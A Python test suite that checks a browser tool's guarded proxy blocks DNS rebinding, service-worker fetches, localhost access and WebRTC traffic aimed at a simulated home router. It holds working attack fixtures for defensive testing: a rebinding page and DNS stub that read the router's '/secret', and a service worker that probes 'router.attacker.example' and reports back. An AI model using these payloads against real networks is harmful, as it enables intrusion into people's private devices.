"""The browser checks addresses where it connects, in real Chromium: a DNS-rebinding attacker and
a service worker cannot reach the owner's "router".

No network here: 127.0.0.2 plays the attacker's public server and 127.0.0.1 the router on the
owner's LAN, both on the same port, so a name that answers 127.0.0.2 first and 127.0.0.1 next is
a real rebinding attack (same origin, so the page could read the router's answer). The name
resolves through a DNS the test controls, plugged into the guarded proxy, the only way out
Chromium has.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from app.policy.gate import Profile, Role
from app.tools import browser
from app.tools.browser import BrowserPool
from app.tools.spec import ToolContext, ToolFailure
from netguard import AddressPolicy

pytestmark = pytest.mark.slow
PUBLIC, PRIVATE = "127.0.0.2", "127.0.0.1"
NAME = "rebind.attacker.example"
ROUTER_NAME = "router.attacker.example"  # always answers the router's address

REBIND_PAGE = """<!doctype html><html><head><title>Cute cats</title></head><body>
<p>cats</p><p id="out">waiting</p><script>
fetch("/secret").then(r => r.text().then(t => r.status + " " + t))
  .catch(e => "error " + e).then(t => { document.getElementById("out").textContent = t; });
</script></body></html>"""

SW_PAGE = """<!doctype html><html><head><title>Offline-ready</title></head><body>
<p id="out">waiting</p><script>
navigator.serviceWorker.register("/sw.js").then(
  () => { document.getElementById("out").textContent = "registered"; },
  e => { document.getElementById("out").textContent = "failed " + e; });
</script></body></html>"""

# Runs in the service worker, where Playwright's request interception sees nothing.
SW_JS = """self.addEventListener("install", e => e.waitUntil(
  fetch("http://router.attacker.example:{port}/secret", {mode: "no-cors"})
    .then(r => "answered", err => "error")
    .then(what => fetch("/report?r=" + what))));"""


class Site:
    """One server on one address; records every path it was asked for."""

    def __init__(self, host: str) -> None:
        self.host = host
        self.hits: list[str] = []
        self.runner: web.AppRunner | None = None

    async def start(self, port: int, routes: dict[str, tuple[str, str]]) -> int:
        async def handle(request: web.Request) -> web.Response:
            self.hits.append(request.path_qs)
            body, ctype = routes.get(request.path, ("not found", "text/plain"))
            return web.Response(text=body, content_type=ctype)

        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", handle)
        self.runner = web.AppRunner(app, access_log=None)
        await self.runner.setup()
        site = web.TCPSite(self.runner, self.host, port)
        await site.start()
        return int(site._server.sockets[0].getsockname()[1])


class RebindingDns:
    """The attacker's DNS: a public-looking answer first, the owner's router ever after."""

    def __init__(self) -> None:
        self.asked = 0

    async def lookup(self, host: str, port: int, family: int) -> list[str]:
        if host in (ROUTER_NAME, "localhost"):
            return [PRIVATE]
        if host != NAME:
            raise OSError(f"no such name {host}")
        self.asked += 1
        return [PUBLIC] if self.asked == 1 else [PRIVATE]


@pytest.fixture
async def sites() -> AsyncIterator[tuple[Site, Site, int]]:
    router, attacker = Site(PRIVATE), Site(PUBLIC)
    port = await router.start(
        0,
        {
            "/": ("<title>Router</title>admin", "text/html"),
            "/secret": ("wifi password hunter2", "text/plain"),
        },
    )
    await attacker.start(
        port,
        {
            "/": (REBIND_PAGE, "text/html"),
            "/sw": (SW_PAGE, "text/html"),
            "/sw.js": (SW_JS.replace("{port}", str(port)), "application/javascript"),
        },
    )
    yield router, attacker, port
    for site in (router, attacker):
        assert site.runner is not None
        await site.runner.cleanup()


@pytest.fixture
async def dns() -> RebindingDns:
    return RebindingDns()


@pytest.fixture
async def pool(tmp_path: Path, dns: RebindingDns) -> AsyncIterator[BrowserPool]:
    p = BrowserPool(
        tmp_path / "browser",
        policy=AddressPolicy(public_stand_ins=frozenset({PUBLIC})),
        lookup=dns.lookup,
    )
    yield p
    await p.close()


def ctx_for(tmp_path: Path, pool: BrowserPool) -> ToolContext:
    return ToolContext(
        profile=Profile.PRIVATE,
        user_id="owner",
        role=Role.OWNER,
        guild_id="g",
        channel="tray",
        state_dir=tmp_path,
        config={},
        extras={"browser": pool},
    )


async def call(ctx: ToolContext, tool: str, args: dict[str, Any]) -> dict[str, Any]:
    spec = next(t for t in browser.tools() if t.name == tool)
    return await spec.handler(ctx, args)


async def out_text(pool: BrowserPool, ctx: ToolContext) -> str:
    page = await pool.page(ctx)
    await page.wait_for_function(
        "document.getElementById('out').textContent !== 'waiting'", timeout=10_000
    )
    return str(await page.inner_text("#out"))


async def test_a_rebinding_name_never_reaches_the_router(
    tmp_path: Path, pool: BrowserPool, dns: RebindingDns, sites: tuple[Site, Site, int]
) -> None:
    router, attacker, port = sites
    ctx = ctx_for(tmp_path, pool)
    page = await call(ctx, "browser_open", {"url": f"http://{NAME}:{port}/"})
    assert page["title"] == "Cute cats"  # the first answer was public: the page loads
    # The page's same-origin fetch: its name now answers 127.0.0.1. Refused where it connects,
    # with the reason in the answer the page gets.
    shown = await out_text(pool, ctx)
    assert shown.startswith("403") and "not allowed" in shown, shown
    # Opening the page again: the name is the router now, and the owner is told so.
    with pytest.raises(ToolFailure, match=r"local network.*not allowed"):
        await call(ctx, "browser_open", {"url": f"http://{NAME}:{port}/"})
    assert router.hits == [], f"the router was reached: {router.hits}"
    assert attacker.hits == ["/"]
    assert dns.asked == 3, "each request resolved once, by the proxy; Chromium resolved nothing"
    assert [u for u, _ in pool.refused] == [
        f"http://{NAME}:{port}/secret",
        f"http://{NAME}:{port}/",
    ]


async def test_localhost_goes_through_the_proxy_too(
    tmp_path: Path, pool: BrowserPool, sites: tuple[Site, Site, int]
) -> None:
    """Chromium sends loopback names straight out unless told `<-loopback>`: not here."""
    router, _attacker, port = sites
    with pytest.raises(ToolFailure, match="localhost is an address on this PC"):
        await call(ctx_for(tmp_path, pool), "browser_open", {"url": f"http://localhost:{port}/"})
    assert router.hits == [] and [u for u, _ in pool.refused] == [f"http://localhost:{port}/"]


async def test_a_service_worker_cannot_reach_the_router(
    tmp_path: Path, pool: BrowserPool, sites: tuple[Site, Site, int]
) -> None:
    router, attacker, port = sites
    ctx = ctx_for(tmp_path, pool)
    await call(ctx, "browser_open", {"url": f"http://{PUBLIC}:{port}/sw"})
    assert await out_text(pool, ctx) == "registered"
    for _ in range(100):  # the worker installs in the background and reports back
        if any(h.startswith("/report") for h in attacker.hits):
            break
        await asyncio.sleep(0.1)
    # The worker's fetch went out (it ran and reported) and the proxy refused it where it
    # connects: a name is only ever judged there, so the refusal is the proxy's own record.
    assert any(h.startswith("/report?r=") for h in attacker.hits), attacker.hits
    assert router.hits == []
    url = f"http://{ROUTER_NAME}:{port}/secret"
    assert pool.refused == [(url, pool.policy.refusal(ROUTER_NAME))]


WEBRTC_PAGE = """<!doctype html><html><head><title>Call</title></head><body><p id="out">waiting</p>
<script>
const pc = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:{port}"},
                                               {urls: "turn:127.0.0.1:{port}", username: "u", credential: "p"}]});
pc.createDataChannel("x");
pc.onicegatheringstatechange = () => {
  if (pc.iceGatheringState === "complete") document.getElementById("out").textContent = "done";
};
pc.createOffer().then(o => pc.setLocalDescription(o));
setTimeout(() => { document.getElementById("out").textContent = "done"; }, 4000);
</script></body></html>"""


async def test_webrtc_cannot_go_around_the_proxy(tmp_path: Path, pool: BrowserPool) -> None:
    """STUN/TURN over UDP would reach any address a page names; only proxied traffic goes."""
    got: list[bytes] = []

    class Listener(asyncio.DatagramProtocol):
        def datagram_received(self, data: bytes, addr: Any) -> None:
            got.append(data)

    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(Listener, local_addr=(PRIVATE, 0))
    udp_port = transport.get_extra_info("sockname")[1]
    attacker = Site(PUBLIC)
    port = await attacker.start(
        0, {"/call": (WEBRTC_PAGE.replace("{port}", str(udp_port)), "text/html")}
    )
    try:
        ctx = ctx_for(tmp_path, pool)
        await call(ctx, "browser_open", {"url": f"http://{PUBLIC}:{port}/call"})
        assert await out_text(pool, ctx) == "done"
        await asyncio.sleep(0.5)
    finally:
        transport.close()
        assert attacker.runner is not None
        await attacker.runner.cleanup()
    assert got == [], "a page's WebRTC reached a LAN address over UDP"


def test_the_record_of_refusals_stays_bounded(tmp_path: Path) -> None:
    """A long-running Node keeps only the latest refused URLs (they may carry data)."""
    pool = BrowserPool(tmp_path / "b")
    mark = pool.mark()
    for i in range(1000):
        pool._record(f"http://x.example/{i}", "refused")
    assert len(pool.refused) <= browser.MAX_REFUSED
    assert pool.refused_since(mark, "http://x.example/999", failed=False) == "refused"
    late = pool.mark()
    pool._record("http://y.example/", "no")
    assert pool.refused_since(late, "http://x.example/999", failed=False) is None
    assert pool.refused_since(late, "http://y.example/", failed=False) == "no"
